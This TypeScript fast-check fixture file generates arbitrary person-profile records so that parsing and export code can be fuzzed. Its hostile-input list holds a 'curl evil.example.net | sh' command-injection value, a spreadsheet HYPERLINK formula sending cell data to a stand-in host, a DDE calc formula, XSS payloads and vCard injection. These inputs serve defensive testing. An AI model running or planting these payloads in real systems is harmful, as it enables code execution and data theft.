import fc from 'fast-check';
import type { Person } from '../../../lib/person';

const hostile = fc.constantFrom(
  '=HYPERLINK("https://evil.example.net/?"&A1,"Pay")',
  '[click](javascript:alert(1)) ![x](https://evil.example.net/p.png)',
  '<img src=x onerror=alert(1)> &copy; <https://evil.example.net>',
  'https://evil.example.net/ www.evil.example.net evil@example.net mailto:a@example.net',
  'END:VCARD\r\nBEGIN:VCARD\r\nFN:Somebody Else',
  '\u202egnp.exe\u2066 \u0000\u0007\u001b[31m',
  "'; curl evil.example.net | sh; echo '$(id)`id`",
  '# heading\n- item\n> quote\n1. one\n===\n---\n```\ncode\n~~~',
  '\ud800 lone',
  'a;b,c\\n\\;d',
  '__proto__',
  '\t',
  '',
  ' ',
  '+46 70 174 06 00',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '中'.repeat(120),
  '👩‍👩‍👧‍👦'.repeat(20),
);

/** Any text at all, and often one that means something to a format. */
export const anyText = fc.oneof(hostile, fc.string({ unit: 'binary', maxLength: 60 }), fc.string());

const maybe = <T>(arbitrary: fc.Arbitrary<T>) => fc.option(arbitrary, { nil: undefined });
const texts = fc.array(anyText, { maxLength: 3 });
const date = fc.oneof(fc.constantFrom('2017', '2017-03', '2017-03-01', '0000-00-00', '-'), anyText);
const url = fc.oneof(
  fc.webUrl({ withFragments: true, withQueryParameters: true }),
  fc.constantFrom(
    'javascript:alert(1)',
    'data:text/html,x',
    'http://',
    'example.org/a(b)[c]<d>`&copy;,;',
  ),
  anyText,
);
const place = fc.record(
  { text: anyText, city: anyText, state: anyText, country: anyText },
  { requiredKeys: [] },
);
const role = fc.record(
  {
    title: anyText,
    company: fc.record({
      name: maybe(anyText),
      industries: texts,
      ids: fc.dictionary(anyText, anyText),
    }),
    isCurrent: fc.boolean(),
    start: date,
    end: date,
    place: anyText,
    department: anyText,
    description: anyText,
  },
  { requiredKeys: ['company', 'isCurrent'] },
);
const school = fc.record(
  {
    name: anyText,
    degree: anyText,
    fieldOfStudy: anyText,
    startYear: fc.integer(),
    endYear: fc.integer(),
  },
  { requiredKeys: [] },
);
const email = fc.record(
  { address: anyText, kind: fc.constantFrom('business', 'personal', 'unknown'), status: anyText },
  { requiredKeys: ['address', 'kind'] },
);
const required = {
  id: anyText,
  languages: texts,
  network: fc.record(
    { connections: fc.integer(), followers: fc.integer(), verifications: texts, openTo: texts },
    { requiredKeys: ['verifications', 'openTo'] },
  ),
  contact: fc.record({
    emails: fc.array(email, { maxLength: 4 }),
    phones: texts,
    websites: fc.array(url, { maxLength: 3 }),
  }),
  roles: fc.array(role, { maxLength: 3 }),
  schools: fc.array(school, { maxLength: 2 }),
  degrees: texts,
  skills: texts,
  certifications: fc.array(
    fc.record({ name: anyText, issuer: anyText, issued: date, url }, { requiredKeys: [] }),
    { maxLength: 2 },
  ),
  honours: fc.constant([]),
  codeProfiles: fc.constant([]),
};

/** Any person: every field may be absent or hold a stranger's text. */
export const anyPerson = fc.record(
  {
    ...required,
    name: anyText,
    firstName: anyText,
    lastName: anyText,
    pronouns: anyText,
    headline: anyText,
    title: anyText,
    department: anyText,
    summary: anyText,
    place,
    photoUrl: url,
    slug: anyText,
    xHandle: anyText,
    codeUrl: url,
    asOf: date,
    extras: fc.record({ birthDate: date, website: url, githubId: anyText }, { requiredKeys: [] }),
  },
  { requiredKeys: Object.keys(required) as (keyof typeof required)[] },
) satisfies fc.Arbitrary<Person>;

/** Any moment, those included that are none. */
export const anySource = fc.record({
  provider: anyText,
  fetchedAt: fc.oneof(fc.constant(Date.UTC(2026, 10, 22)), fc.double()),
});
